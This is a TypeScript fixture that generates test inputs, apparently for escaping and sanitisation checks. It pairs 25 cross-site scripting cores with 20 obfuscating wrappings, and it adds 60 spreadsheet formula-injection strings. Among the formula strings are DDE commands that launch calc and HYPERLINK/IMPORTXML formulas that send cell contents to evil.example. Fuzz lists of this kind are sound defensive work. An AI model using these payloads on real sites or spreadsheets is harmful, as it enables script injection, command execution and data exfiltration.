/** 500 texts that try to become markup: 25 cores, each in 20 wrappings. */
const CORES = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'<svg/onload=alert(1)>',
	'"><script>alert(1)</script>',
	"'><img src=x onerror=alert(1)>",
	'javascript:alert(1)',
	'<a href="javascript:alert(1)">x</a>',
	'</style><script>alert(1)</script>',
	'</title><script>alert(1)</script>',
	'<iframe srcdoc="<script>alert(1)</script>">',
	'<base href="https://evil.example/">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<link rel=stylesheet href=//evil.example>',
	'<form action=//evil.example><input>',
	'<object data=//evil.example>',
	'<!--',
	'-->',
	']]>',
	'<![CDATA[<script>',
	'&lt;script&gt;',
	'" onmouseover="alert(1)',
	'` onmouseover=alert(1) `',
	'{{constructor.constructor("alert(1)")()}}',
	'${alert(1)}',
	'<math><mtext><img src=x onerror=alert(1)>'
];
const WRAPPINGS: readonly ((core: string) => string)[] = [
	(x) => x,
	(x) => x.toUpperCase(),
	(x) => `正常文本${x}`,
	(x) => `${x}\n${x}`,
	(x) => `\u0000${x}`,
	(x) => x.replaceAll('<', '<\u0000'),
	(x) => `\ufeff${x}`,
	(x) => `\u202e${x}`,
	(x) => x.replaceAll('<', '\u003c'),
	(x) => x.replaceAll(' ', '\t'),
	(x) => x.replaceAll(' ', '/'),
	(x) => `${x}\ud800`,
	(x) => x.replaceAll('<', '＜<'),
	(x) => `'${x}"`,
	(x) => `\\${x}`,
	(x) => `=${x}`,
	(x) => x.repeat(3),
	(x) => `<${x}`,
	(x) => `&#60;${x}`,
	(x) => `${x}\u2028`
];
export const MARKUP_PAYLOADS: readonly string[] = CORES.flatMap((core) => WRAPPINGS.map((wrap, i) => (i === 0 ? core : `${wrap(core)}${i}`)));

/** 60 texts that spreadsheets could run as formulas or commands. */
const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＠', '"=', "'="];
const BODIES = [
	"cmd|' /C calc'!A0",
	'HYPERLINK("http://evil.example?"&A1,"x")',
	"SUM(1+1)*cmd|' /C calc'!A0",
	'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
	'1+1'
];
export const FORMULA_PAYLOADS: readonly string[] = STARTS.flatMap((start) => BODIES.map((body) => start + body));
